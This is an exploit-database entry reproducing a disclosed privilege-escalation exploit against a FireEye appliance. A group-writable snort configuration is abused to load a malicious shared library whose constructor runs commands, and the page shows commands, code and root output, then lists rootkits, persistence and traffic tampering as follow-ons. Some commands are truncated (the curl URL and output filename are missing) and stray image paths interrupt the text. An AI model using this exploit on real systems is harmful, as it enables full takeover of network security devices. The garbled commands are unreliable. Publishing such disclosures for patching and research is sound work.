FireEye - Malware Input Processor (uid=mip) Privilege Escalation

ID 1337DAY-ID-25550
Type zdt
Reporter Google Security Research
Modified 2016-03-28T00:00:00


Exploit for windows platform in category local exploitsThe mip user is already quite privileged, capable of accessing sensitive network data. However, as the child process has supplementary gid contents, there is a very simple privilege escalation to root. This is because the snort configuration is writable by that group:
$ ls -l /data/snort/config/snort.conf
-rw-rw-r-- 1 fenet contents 1332 Dec  2 18:02 /data/snort/config/snort.conf
This can be exploited by placing a shared library in a writable directory that is mounted with the “exec” option, and appending a “dynamicengine” directive to the snort configuration.
# mount | grep -v noexec | grep rw
/dev/sda8 on /var type ext4 (rw,noatime)
/dev/sda11 on /data type ext4 (rw,noatime)
/dev/sda9 on /data/db type ext4 (rw,noatime,barrier=0)
tmpfs on /dev/shm type tmpfs (rw)
It looks like /dev/shm is a good candidate for storing a shared library.
First, I create and compile a shared library on my workstation, as there is no compiler available on the FireEye appliance:
$ cat test.c
void __attribute__((constructor)) init(void)
        system("/usr/bin/id > /tmp/output.txt");
$ gcc test.c -shared -s -fPIC -o
Now fetch that object on the FireEye machine, and instruct snort to load it:
fireeye$ curl > /dev/shm/
fireeye$ printf “dynamicengine /dev/shm/\n” >> /data/snort/config/snort.conf
The snort process is regularly restarted to process new rules, so simply wait for the snort process to respawn, and verify we wereable to execute commands as root:
fireeye$ cat/tmp/output.txt
uid=0(admin) gid=0(root) groups=0(root)
And now we’re root, with complete control of the FireEye machine. We canload a rootkit, persist across reboots or factory resets, inspect or modify traffic, orperform any other action.

# [2018-02-16]  #